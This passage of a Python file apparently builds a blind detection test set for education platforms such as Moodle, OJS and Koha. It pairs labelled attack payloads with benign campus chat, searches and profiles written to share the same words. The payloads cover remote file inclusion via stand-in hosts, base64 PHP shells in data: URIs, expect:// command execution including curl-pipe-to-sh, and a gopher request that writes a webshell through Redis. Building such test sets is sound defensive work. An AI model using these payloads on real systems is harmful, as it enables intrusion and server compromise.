    "http://198.51.100.23:8000/lang/en.txt",
    "http://198.51.100.23/chamilo/plugin.txt",
    "http://192.0.2.77/ojs/templates/header.tpl",
    "http://198.51.100.23/w.php",
    "http://203.0.113.45:8443/inc/config.txt",
    "http://0177.0.0.1:8080/manager/html",
    "http://127.1/server-status",
    "http://[::ffff:198.51.100.23]/x.txt",
    "http://198.51.100.23/wiki/skin.txt",
    "http://198.51.100.23/koha/opac.txt",
    "http://192.0.2.10/omeka/plugin.php",
    "http://203.0.113.45/ilias/Customizing/x.txt",
    "http://100.100.100.200/latest/meta-data/",
    "http://198.51.100.23:1337/",
    "http://192.168.10.15/ezproxy/admin",
    "https://203.0.113.45/scorm/api.txt",
    "http://198.51.100.23/phpshell.gif",
]

# url-with-trailing-question-mark: a remote URL ending in "?" (or its encoding) so the suffix the application
# appends (".php", "/lang/en.php", ".tpl.php") becomes a query string. Target: PHP include() in Moodle 1.x-era
# plugins, Claroline/Dokeos (Chamilo's ancestors), OJS 2 and old departmental PHP sites.
URL_QMARK: list[Entry] = [
    "http://evil.example.net/shell.txt?",
    "https://attacker.example.org/inc.txt?",
    "http://198.51.100.23/x.txt??",
    "http://evil.example.net/s.txt%3F",
    "ftp://198.51.100.23/pub/s.txt?",
    "http://198.51.100.23:8080/?",
    "//evil.example.net/s.txt?",
    "http://evil.example.net/moodle_lang.txt?",
    "http://evil.example.net/dokeos/c99.txt?",
    "http://attacker.example.org/claroline.txt?",
    "http://evil.example.net/ojs/template.txt?",
    "https://evil.example.net/theme/boost/layout.txt?",
    "http://attacker.example.org/r57.txt?&",
    "http://evil.example.net/id.txt?cmd=id?",
    "http://203.0.113.45/inc/header.txt?",
    "http://evil.example.net/x.txt?.php",
    "https://pastebin.com/raw/bX7kQ2mZ?",
    "https://raw.githubusercontent.com/attacker/tools/main/shell.txt?",
    "http://evil.example.net/lang/en.txt?",
    "http://attacker.example.org/skins/monobook.txt?",
    "http://evil.example.net/koha/opac.txt?",
    "http://evil.example.net/ilias/start.txt?",
    "http://evil.example.net/gradebook.txt?",
    "http://evil.example.net/quiz/attempt.txt?",
    "http://evil.example.net/enrol/config.txt?",
    "http://attacker.example.org/eprints/cfg.txt?",
    "http://evil.example.net/shell.txt%3f",
    "http://evil.example.net/shell.txt%253F",
    "http://evil.example.net/wp/inc.txt?",
    "https://evil.example.net/omeka/plugin.txt?",
    "http://evil.example.net/chamilo/main/inc.txt?",
    "http://attacker.example.org/bb/module.txt?",
]

# include-parameter-with-url: the include parameter itself with a remote URL, as the raw query string or form body
# the exploit sends (register_globals-era names included). Targets: PHP include() in Moodle 1.x (CFG[dirroot]),
# Dokeos/Claroline (includePath), Mambo/Joomla and phpBB sites departments still run, OJS/Chamilo plugin loaders.
INCLUDE_PARAM: list[Entry] = [
    ("page=http://evil.example.net/shell.txt",) + QS,
    ("file=http://198.51.100.23/x.txt",) + QS,
    ("template=http://evil.example.net/tpl.txt?",) + KV,
    ("include=http://attacker.example.org/inc.txt",) + QS,
    ("path=http://evil.example.net/",) + QS,
    ("CFG[dirroot]=http://evil.example.net/moodle/",) + QS,
    ("CFG[libdir]=http://198.51.100.23/lib",) + QS,
    ("includePath=http://evil.example.net/shell.txt?",) + QS,
    ("mosConfig_absolute_path=http://evil.example.net/c99.txt?",) + QS,
    ("phpbb_root_path=http://attacker.example.org/s.txt?",) + QS,
    ("lang=http://evil.example.net/en.txt?",) + KV,
    ("theme=http://evil.example.net/theme/",) + KV,
    ("_SERVER[DOCUMENT_ROOT]=http://evil.example.net/",) + QS,
    ("inc=http://198.51.100.23/shell.txt?",) + QS,
    ("module=http://evil.example.net/mod.txt",) + KV,
    ("content=http://evil.example.net/c.txt?",) + QS,
    ("doc=ftp://198.51.100.23/d.txt",) + QS,
    ("layout=http://evil.example.net/l.txt?",) + KV,
    ("dir=http://evil.example.net/",) + QS,
    ("root_path=http://attacker.example.org/",) + QS,
    ("page=forum&file=http://evil.example.net/s.txt?",) + QS,
    ("id=3&template=https://evil.example.net/t.txt",) + KV,
    # plain URL payloads: the set's include-style names (url, page, include, template, ...) carry them
    "http://evil.example.net/include/shell.txt",
    "https://attacker.example.org/webshell.txt",
    "http://evil.example.net/blocks/rss_client/x.txt",
    "http://evil.example.net/mod/quiz/s.txt",
    "http://evil.example.net/local/plugin/s.txt",
    "http://evil.example.net/admin/tool/s.txt",
    "https://evil.example.net/question/type/s.txt",
    "http://evil.example.net/filter/tex/s.txt",
    "http://evil.example.net/plugins/generic/s.txt",
    "http://evil.example.net/main/inc/lib/s.txt",
]

# off-domain-reference: a URL on a host that is not the institution's, in a field the server fetches or includes:
# Moodle external tool (LTI) and plugin-installer URLs, IMS and SCORM package URLs, Omeka's URL ingester, EZproxy
# starting points, Shibboleth metadata providers, nbgitpuller links, OAI harvest sources. Targets: the products'
# server-side fetch and include code.
OFF_DOMAIN: list[Entry] = [
    "https://evil.example.net/lti/launch.php",
    "http://evil.example.net/cartridge.xml",
    "https://evil.example.net/feed.xml",
    "https://login.ezproxy.example.edu/login?url=http://evil.example.net/x.php",
    "https://evil.example.net/.well-known/openid-configuration",
    "http://evil.example.net/oai?verb=Identify",
    "https://evil.example.net/metadata/idp.xml",
    "//evil.example.net/x.txt",
    "http://moodle.example.edu@evil.example.net/shell.txt",
    "http://moodle.example.edu.evil.example.net/x.txt",
    "https://evil.example.net/omeka/import.php",
    "https://evil.example.net/r.git",
    "/hub/user-redirect/git-pull?repo=https://evil.example.net/r.git&urlpath=tree/r",
    "https://evil.example.net/moodle-local_helper.zip",
    "https://evil.example.net/scorm/imsmanifest.xml",
    "https://evil.example.net/h5p/content.h5p",
    "http://evil.example.net:8080/ojs/import.xml",
    "http://evil.example.net/cgi-bin/koha.pl",
    "https://pastebin.com/raw/Lq9v3TzA",
    "https://raw.githubusercontent.com/attacker/x/main/s.php",
    "https://gist.githubusercontent.com/attacker/4f1c/raw/s.php",
    "https://attacker.example.org/tool/register",
    "http://c2.example.com/s.txt",
    "https://evil.example.net/dspace/handle.txt",
    "https://evil.example.net/eprints/cfg.pl",
    "https://evil.example.net/jupyter/notebook.ipynb",
    "https://evil.example.net/ood/app.zip",
    "http:/\\evil.example.net/x.txt",
    "https:evil.example.net/s.txt",
    "https://evil.example.net%2F@moodle.example.edu/s.txt",
    "https://evil.example.net/wiki/s.txt",
    "https://attacker.example.org/canvas/lti.xml",
]

# protocols: non-HTTP schemes and UNC paths that reach another host or run a command: ftp, smb and \\host,
# WebDAV UNC, data:, expect:, gopher/dict into the Redis and memcached a Moodle cache uses, Java's jar:/netdoc:,
# ssh2.exec. Targets: PHP include() on Windows and Linux, PHP's expect and ssh2 extensions, libcurl fetchers,
# Java URL handlers in DSpace and Sakai.
PROTOCOLS: list[Entry] = [
    "ftp://198.51.100.23/pub/shell.txt",
    "ftp://anonymous:anon@evil.example.net/x.php",
    "ftps://evil.example.net/inc/s.php",
    "smb://198.51.100.23/share/shell.php",
    "\\\\198.51.100.23\\share\\shell.php",
    "\\\\evil.example.net@SSL\\DavWWWRoot\\s.php",
    "//198.51.100.23/share/s.php",
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==",
    "data:text/plain,<?php phpinfo();?>",
    "data://text/plain,<?php system('id');?>",
    "data:;base64,PD9waHAgcGFzc3RocnUoJF9SRVFVRVNUWydjbWQnXSk7Pz4=",
    "expect://id",
    "expect://ls -la /var/moodledata",
    "expect://cat /etc/passwd",
    "gopher://127.0.0.1:6379/_CONFIG%20SET%20dir%20/var/www/moodle%0D%0ACONFIG%20SET%20dbfilename%20s.php%0D%0A"
    "SET%20x%20%22%3C%3Fphp%20system(%24_GET%5Bc%5D)%3B%3F%3E%22%0D%0ASAVE%0D%0A",
    "dict://127.0.0.1:11211/stats",
    "dict://127.0.0.1:6379/info",
    "jar:http://198.51.100.23/x.jar!/",
    "netdoc:///etc/passwd",
    "ssh2.exec://root:toor@198.51.100.23:22/id",
    "tftp://198.51.100.23/shell.txt",
    "file://198.51.100.23/share/s.php",
    "sftp://198.51.100.23/s.php",
    "smb://evil.example.net/public/moodle.php",
    "\\\\evil.example.net\\share\\lang\\en.php",
    "gopher://127.0.0.1:11211/_set%20x%200%200%205%0D%0Ahello%0D%0A",
    "ldap://198.51.100.23:389/dc=example,dc=edu",
    "ftp://198.51.100.23:2121/chamilo/inc.php",
    "\\\\198.51.100.23\\c$\\windows\\win.ini",
    "data:application/x-httpd-php;base64,PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg==",
    "expect://curl -s http://198.51.100.23/x|sh",
    "smb://198.51.100.23/IPC$",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("rce", "unix-command-injection", UNIX_INJECTION),
    ("rce", "unix-shell-expression-evasion", SHELL_EVASION),
    ("rce", "windows-cmd-injection", WINDOWS_CMD),
    ("rce", "powershell", POWERSHELL),
    ("rce", "unix-command-names-with-paths", UNIX_WITH_PATH),
    ("rce", "reverse-shells", REVERSE_SHELL),
    ("rce", "shellshock", SHELLSHOCK),
    ("rce", "downloaders", DOWNLOADER),
    ("rce", "file-write-via-shell", FILE_WRITE),
    ("rce", "restricted-file-names-in-commands", RESTRICTED_FILE),
    ("lfi", "path-traversal", TRAVERSAL),
    ("lfi", "os-file-access", OS_FILE),
    ("lfi", "absolute-paths", ABSOLUTE),
    ("lfi", "null-byte-truncation", NULL_BYTE),
    ("lfi", "php-wrapper-lfi", PHP_WRAPPER),
    ("lfi", "log-poisoning-targets", LOG_TARGET),
    ("lfi", "restricted-file-extensions", RESTRICTED_EXT),
    ("rfi", "url-with-ip-address", URL_IP),
    ("rfi", "url-with-trailing-question-mark", URL_QMARK),
    ("rfi", "include-parameter-with-url", INCLUDE_PARAM),
    ("rfi", "off-domain-reference", OFF_DOMAIN),
    ("rfi", "protocols", PROTOCOLS),
]
# include pairs written as `name=value`, sent unquoted as the query string or form body
RAW_KV_SUBS = {"include-parameter-with-url"}

# the parameter names each category's payloads travel under on our routes
NAMES = {
    "rce": ["host", "jobname", "filename", "lang", "pathtodu", "script", "q", "course", "format"],
    "lfi": ["file", "page", "lang", "template", "theme", "path", "doc", "filepath", "skin"],
    "rfi": ["url", "page", "include", "template", "toolurl", "src", "feed", "file", "repo"],
}


# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    raw_subs = RAW_KV_SUBS
    kv_safe = "=&[]._-:/'*$!(),;{}~@?%"
    raw_places = ("query", "rs-query", "form", "rs-raw-body", "param-name", "rs-param-name")
    unique = True
    raw_body_forbids = "&"
    xml_controls = "\n\t"

    def name(self, category: str, sub: str, k: int) -> str:
        names = NAMES[category]
        return names[k % len(names)]


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently (Slack chat and bios of teachers, researchers, students and campus IT,
# searches for colleagues and courses, links to course pages, papers and docs, profiles, uploads, ordinary headers)
CHAT = [
    # teaching: shell and programming courses
    "for lab 3 students need to run cat /etc/passwd and explain each field, it's the intro to Unix accounts",
    "reminder: in COMP1021 we never ask students to paste their ~/.ssh/id_rsa anywhere, only the .pub file",
    "the quiz question on pipes is ls -l | wc -l, half the class answered 'it counts files' which is fine",
    "week 5 slides cover ; && and || in bash, the exercise is to chain mkdir and cd safely",
    "can someone check my rubric? criterion 2 is 'uses $(...) instead of backticks for command substitution'",
    "students keep writing rm -rf * in the sandbox VM, at least it's a sandbox",
    "the autograder runs each submission with timeout 10 python3 main.py < input.txt",
    "Q7 asks what `echo $HOME` prints, expected answer is the user's home directory",
    "for the networking lab they ping 127.0.0.1 and then the gateway, then traceroute to the uni website",
    "I added a hint: use grep -r 'TODO' src/ to find the unfinished functions",
    "the shell scripting assignment is due Friday 17:00, late penalty 10% per day",
    "today's tutorial: wget vs curl, and why curl -O keeps the remote file name",
    "somebody's submission had while true; do echo hi; done and the grader hung for an hour",
    "intro to PowerShell next week, Get-ChildItem and Get-Content are the first two cmdlets",
    "the Windows lab machines have cmd and PowerShell, type C:\\Users\\%USERNAME% in Explorer to find your folder",
    "reading for Thursday: chapter 4 on processes, fork/exec and what the shell does with a pipeline",
    "the SQL quiz has a question on UNION vs UNION ALL, I'll post the answer key after the deadline",
    "in the web dev course we show include() and require() in PHP and why you whitelist template names",
    "security module lecture 6 is path traversal, I use the ../ examples from the textbook",
    "the OWASP unit covers file inclusion, students write a fixed version of a vulnerable page as homework",
    "the C course uses gcc -Wall -o hello hello.c && ./hello as the first exercise",
    "the LaTeX template for the thesis is on the course page, compile with pdflatex then bibtex twice",
    "please use \\include{chapter1} in main.tex rather than pasting everything into one file",
    "remember \\input{} works for small snippets, \\include{} forces a page break",
    "the Python lecture covers subprocess.run(['ls', '-l']) and why shell=True is a bad default",
    # HPC and research computing
    "sbatch job.sh returns the job id, then squeue -u $USER to see it in the queue",
    "my job died with 'slurmstepd: error: Detected 1 oom_kill event', asking for --mem=64G now",
    "Open OnDemand's Jupyter app is back, the fix was in /etc/ood/config/clusters.d on the portal side",
    "the cluster login node is login1.hpc.example.edu, please don't run heavy jobs there",
    "scratch is purged after 30 days, copy results to /project/yourgroup before then",
    "module load python/3.11 cuda/12.2 then source venv/bin/activate",
    "rsync -avz results/ me@dtn.hpc.example.edu:/project/lab/results/ is the fastest way off the cluster",
    "the JupyterHub upgrade is scheduled for Sunday, notebooks will be saved but kernels restart",
    "anyone else getting 'Spawn failed: Timeout' on the hub this morning?",
    "the GPU partition is full until the weekend, try the a100 queue with --time=04:00:00",
    "srun --pty bash gives you an interactive shell on a compute node",
    "for reproducibility put the conda env.yml next to the notebook in the repo",
    "I use nohup python train.py > train.log 2>&1 & on my workstation, on the cluster use sbatch instead",
    "the munge service restarted after patching, jobs should submit again",
    "export OMP_NUM_THREADS=8 before mpirun or it oversubscribes",
    # library, repositories, LMS admin
    "the library proxy link format is https://login.ezproxy.example.edu/login?url= followed by the journal link",
    "Koha upgrade done, the OPAC search is faster now",
    "DSpace 7 migration: handles stay the same, old bitstream links redirect",
    "the repository deposit form now asks for an ORCID iD and a licence",
    "Moodle 4.3 upgrade is next Tuesday 06:00-08:00, the site will be in maintenance mode",
    "the gradebook export is CSV, open it in Excel with UTF-8 or the accents break",
    "who owns the LTI tool registration for Turnitin? the shared secret needs rotating",
    "Shibboleth login for the journal site is fixed, the IdP metadata had expired",
    "the plagiarism report for group 4 shows 12%, all of it from their own reference list",
    "proctoring tool needs the Chrome extension, students on Linux should use the lab room instead",
    "the enrolment portal opens Monday at 09:00 for final-year students",
    "please don't put student numbers in file names when you upload marks",
    "OJS submission got stuck in 'incomplete', the author had to finish step 4 again",
    "the conference submission site closes at midnight anywhere on earth",
    "the Omeka exhibit for the archives project is live, images are in the files folder",
    "Canvas course copy brought over the quizzes but not the question banks, had to import those",
    "the ILIAS test module shuffles answers per student, good for the open-book exam",
    "Chamilo is only used by the language centre now, everything else is on Moodle",
    "the wiki page on course templates moved, the old link redirects",
    "the EPrints export of our group's papers as BibTeX works from the search results page",
    # campus IT chatter
    "the web server logs are in /var/log/apache2 on the old departmental box, access.log rotates weekly",
    "can someone with sudo on the web VM check why config.php lost its write permission?",
    "backup of the moodle database ran at 02:00, dump is 14 GB",
    "we moved the .env file out of the web root on the new events site",
    "the .htaccess on the staff pages redirects http to https now",
    "git pull on the course site failed because someone edited files on the server directly",
    "the old Windows file server is \\\\fs01\\departments, it's read-only from Friday",
    "the IIS site for the print release uses web.config for the redirects",
    "the user guide says to download the installer with curl, then check the sha256 before running it",
    "phishing alert: an email asks staff to 'verify your Shibboleth password', it's fake",
    "the lab image now has python3, R, octave and git preinstalled",
    "the backups of the old wiki are .bak and .sql files on the archive drive",
    "please don't email passwords, use the password manager's share feature",
    "the SSO certificate expires in 30 days, renewal ticket is open",
    # bios
    "Lecturer in Computer Science. I teach operating systems and the Unix shell. Office hours Tue 14:00.",
    "PhD student in bioinformatics. Snakemake, Slurm, too many FASTQ files.",
    "Research software engineer. JupyterHub, Open OnDemand and the odd Fortran code.",
    "Subject librarian for engineering. Ask me about journal access and the proxy.",
    "Learning technologist. Moodle, H5P, accessible course design.",
    "Professor of Mathematics. Number theory, LaTeX, and coffee.",
    "Research data manager. DSpace, DOIs, data management plans.",
    "Campus web team. WordPress, MediaWiki and the odd legacy PHP site.",
]

SEARCHES = [
    "COMP1021", "CS101", "MATH201", "PHYS110", "bioinformatics", "library", "ezproxy", "moodle admin",
    "hpc support", "slurm", "jupyter", "Open OnDemand", "research computing", "registry", "enrolment",
    "exams office", "Dr. Patel", "o'connor", "McCarthy", "Anne-Marie", "da Silva", "van der Berg",
    "computer science", "history dept", "archives", "dspace", "koha", "ojs editor", "turnitin",
    "proctoring", "shibboleth", "idp", "lti", "gradebook", "quiz", "teaching assistant", "lab technician",
    "postdoc", "phd", "Faculty of Engineering", "School of Medicine", "physics", "file server", "cat",
    "bash", "curl", "include", "template", "page", "path",
]

URLS = [
    "https://moodle.example.edu/course/view.php?id=1042",
    "https://moodle.example.edu/mod/quiz/view.php?id=5521",
    "https://canvas.example.edu/courses/812/assignments/4410",
    "https://library.example.edu/cgi-bin/koha/opac-detail.pl?biblionumber=1042",
    "https://login.ezproxy.example.edu/login?url=https://www.jstor.org/stable/1234567",
    "https://repository.example.edu/handle/123456789/4521",
    "https://eprints.example.edu/id/eprint/8812/1/thesis.pdf",
    "https://doi.org/10.1145/3368089.3409742",
    "https://arxiv.org/abs/2106.09685",
    "https://ondemand.hpc.example.edu/pun/sys/dashboard/files/fs//home/abc123",
    "https://hub.example.edu/user/abc123/lab/tree/notebooks/week3.ipynb",
    "https://slurm.schedmd.com/sbatch.html",
    "https://docs.moodle.org/403/en/Filters",
    "https://www.gnu.org/software/bash/manual/bash.html",
    "https://owasp.org/www-community/attacks/Path_Traversal",
    "https://journals.example.edu/index.php/jcs/article/view/231",
    "https://wiki.example.edu/index.php?title=Course_templates",
    "https://orcid.org/0000-0002-1825-0097",
    "https://omeka.example.edu/exhibits/show/archives/page-2",
    "https://zenodo.org/records/7654321",
]

PROSE = [
    "Unix shell workshop: cat, grep, pipes and redirection - Room 2.14",
    "COMP1021 lab 3: file permissions and /etc/passwd",
    "Assignment 2: write a bash script that backs up a folder with tar",
    "Quiz 4 answers: ls | wc -l counts lines, not files with newlines in their names",
    "Intro to HPC: sbatch, squeue, scancel and srun",
    "JupyterHub maintenance window Sunday 08:00-10:00",
    "Library proxy: use the EZproxy link to read journals off campus",
    "Repository deposit: upload the accepted manuscript as PDF",
    "Gradebook export for the exam board, semester 1",
    "Moodle quiz settings: shuffle within questions, one attempt",
    "LTI 1.3 registration for the new lab notebook tool",
    "Turnitin similarity report guidance for markers",
    "Office hours: Tuesday 14:00 and by appointment",
    "PowerShell for Windows admins - IT training course",
    "Python subprocess and why shell=True is risky - lecture notes",
    "PHP include and require - web development week 7",
    "Security lecture: path traversal and file inclusion, with the fixed code",
    "LaTeX thesis template with \\include for each chapter",
    "Open day volunteers needed in the School of Computing",
    "Exam timetable published, check your student portal",
    "Data management plan template for research grants",
    "Shibboleth single sign-on: what to do if login loops",
    "Research seminar: reproducible pipelines with Snakemake and Slurm",
    "Mathematics colloquium: the Riemann hypothesis for beginners",
    "The web server logs are kept for 90 days",
    "Backups: nightly database dump and weekly file copy",
    "New lab image with git, python3 and R",
    "Course page template for the Faculty of Arts",
    "Student helpdesk: password resets and Wi-Fi",
    "Call for papers: deadline 15 March, submissions via the conference site",
    "Windows file share \\\\fs01\\teaching retired at end of term",
    "curl and wget basics for data downloads",
    "Please upload coursework as PDF, not .docx",
    "Network lab: ping, traceroute and DNS lookups",
    "Library opening hours over the holidays",
]

PROFILES = [
    ("Dr. Amara Okafor", "School of Computing, Room 2.14"),
    ("Prof. Lars Lindqvist", "Department of Physics, Building C"),
    ("Siobhán O'Connor", "Library, Level 3"),
    ("Ravi Shankar Patel", "Research Computing, Data Centre"),
    ("Marie-Claire Dubois", "Faculty of Arts, Old Quad 5"),
    ("Kenji Watanabe", "Bioinformatics Lab, Life Sciences 1.02"),
    ("Anne-Marie van der Berg", "Registry, Student Services Centre"),
    ("Tomás da Silva", "Mathematics, Hilbert Building 4.10"),
    ("Grace Kim (TA)", "CS101 teaching team"),
    ("Campus IT Service Desk", "Hub Building, Ground Floor"),
    ("Dr. Catherine Bash", "History Department, Room 12"),
    ("Peter Curl", "Estates Office, North Campus"),
    ("Fatima Al-Sayed", "Archives and Special Collections"),
    ("Jonas Hansen", "Physics Workshop"),
    ("Li Wei", "HPC Support, Research IT"),
]

UPLOAD_NAMES = [
    "COMP1021_lab3_submission.pdf", "assignment2_backup_script.sh", "thesis_final_v7.pdf", "week5_slides.pptx",
    "quiz4_answer_key.docx", "gradebook_export_S1.csv", "job.sh", "train.log", "env.yml", "week3.ipynb",
    "dataset_2024-09.tar.gz", "poster_conference.png", "ethics_approval.pdf", "main.tex", "references.bib",
    "chapter1.tex", "moodle-backup-course-1042.mbz", "marks (final).xlsx", "O'Connor_reference_letter.pdf",
    "slurm-418823.out", "lab_notebook_2024.odt", "survey_results.sav", "figure_3b.svg", "README.md",
    "config.example.ini",
]

BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/126.0.0.0 Safari/537.36"),
    ("User-Agent", "MoodleMobile 4.3.0 (Android 14)"),
    ("User-Agent", "curl/8.5.0"),
    ("User-Agent", "python-requests/2.32.3"),
    ("Referer", "https://moodle.example.edu/course/view.php?id=1042"),
    ("Referer", "https://login.ezproxy.example.edu/login?url=https://www.jstor.org/"),
    ("Accept-Language", "en-GB,en;q=0.9,ga;q=0.6"),
    ("X-Api-Version", "2024-09-01"),
    ("Cookie", "session=abc123; MoodleSession=q8c1n3v0l2k9; lang=en"),
    ("Cookie", "session=abc123; course=COMP1021; theme=boost"),
    ("X-Forwarded-For", "192.0.2.44"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
